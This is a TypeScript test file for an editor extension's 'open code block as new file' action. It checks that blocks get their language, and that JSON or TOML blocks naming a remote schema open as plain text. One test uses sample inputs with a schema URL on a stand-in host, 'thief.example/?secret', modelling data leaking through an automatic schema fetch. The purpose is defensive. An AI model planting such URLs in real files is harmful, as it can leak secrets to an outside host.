import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { languages, window, workspace } from '../../../support/editorStub.ts';
import { restoreAfterEach } from '../../../support/restoredStubs.ts';
import { withEditorStub } from '../../../support/withEditorStub.ts';

const { createCodeBlockActions } = await withEditorStub(
  () => import('../../../../src/editor/proposals/codeBlockActions.ts'),
);

describe('A code block that is opened as a new file', () => {
  restoreAfterEach(window, workspace, languages);

  /** What the editor opens for a block with this text. */
  async function openedOf(text: string, info: string): Promise<unknown> {
    let opened: unknown;
    Object.assign(languages, { getLanguages: async () => ['json', 'toml', 'plaintext'] });
    Object.assign(workspace, {
      openTextDocument: async (document: unknown) => {
        opened = document;
      },
    });
    Object.assign(window, { showTextDocument: async () => undefined });
    const conversation = { exchanges: [{ id: 'e' }] };
    const actions = createCodeBlockActions({ conversations: { get: () => conversation } } as never);
    await actions.perform('new-file', 'c', { exchangeId: 'e', text, info });
    return opened;
  }

  it('has the language of the block', async () => {
    assert.deepEqual(await openedOf('{"a": 1}\n', 'json'), { content: '{"a": 1}\n', language: 'json' });
  });

  it('is text if it names a schema, which extensions would get from its address at once', async () => {
    const json = '{"$schema": "https://thief.example/?secret"}\n';
    assert.deepEqual(await openedOf(json, 'json'), { content: json, language: 'plaintext' });
    const toml = '#:schema https://thief.example/?secret\n';
    assert.deepEqual(await openedOf(toml, 'toml'), { content: toml, language: 'plaintext' });
  });
});
